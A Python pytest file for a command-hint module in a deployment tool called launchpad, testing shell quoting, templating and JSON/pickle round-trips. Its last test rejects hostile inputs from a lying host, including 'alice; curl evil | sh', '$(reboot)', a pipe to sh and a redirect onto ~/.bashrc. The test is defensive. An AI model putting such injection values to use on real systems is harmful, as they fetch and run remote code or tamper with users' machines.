"""A hint is a text on a terminal, and data everywhere else."""

from __future__ import annotations

import json
import pickle

import pytest

from launchpad.runner.hint import HERE, Hint, Next, at, commands_of, hint_as_json, hint_from_json

BOTH = Next("logs", "alice") + ", mend it, then " + Next("deploy", "alice", "--host", HERE)


def test_a_hint_is_what_a_person_types() -> None:
    assert BOTH == "launchpad logs alice, mend it, then launchpad deploy alice --host HOST"
    assert "or: " + Next("backups list", "alice") == "or: launchpad backups list alice"


def test_an_argument_with_a_space_is_quoted() -> None:
    hint = Next("kit open", "/media/my stick/it's.txt")
    assert hint == "launchpad kit open '/media/my stick/it'\\''s.txt'"
    assert commands_of(hint) == (("kit open", "/media/my stick/it's.txt"),)


def test_its_commands_are_data() -> None:
    assert commands_of(BOTH) == (("logs", "alice"), ("deploy", "alice", "--host", HERE))
    assert commands_of("free some space") == ()


def test_the_operators_side_puts_the_hosts_name_in() -> None:
    assert at(BOTH, "web-1") == "launchpad logs alice, mend it, then launchpad deploy alice --host web-1"
    assert commands_of(at(BOTH, "web-1"))[1][-1] == "web-1"
    assert at("free some space", "web-1") == "free some space"


def test_a_template_keeps_its_commands() -> None:
    template = Next("dns show", "{tenant}") + "; then ask {tenant}"
    assert template.format(tenant="bob") == "launchpad dns show bob; then ask bob"
    assert commands_of(template.format(tenant="bob")) == (("dns show", "bob"),)


@pytest.mark.parametrize("hint", ["", "free some space", BOTH, Next("status")])
def test_a_hint_crosses_the_wire_and_processes_whole(hint: str) -> None:
    for back in (hint_from_json(json.loads(json.dumps(hint_as_json(hint)))), pickle.loads(pickle.dumps(hint))):
        assert (back, commands_of(back)) == (hint, commands_of(hint))


@pytest.mark.parametrize(
    "lie",
    [
        [["deploy", "alice; curl evil | sh"]],
        [["deploy", "$(reboot)"]],
        [["logs", "alice", "|", "sh"]],
        [["status", ">", "~/.bashrc"]],
        [["deploy", "a\nb"]],
        [["curl evil"], ["-x"]],
        [["Deploy"]],
        [[]],
        [["deploy", 1]],
        [{"verb": "deploy"}],
        {"deploy": "alice"},
        7,
        None,
    ],
)
def test_a_host_that_lies_suggests_no_shell_code(lie: object) -> None:
    assert hint_from_json(lie) == ""


def test_an_empty_hint_stands_for_none() -> None:
    assert not hint_from_json([])
    assert not Hint()
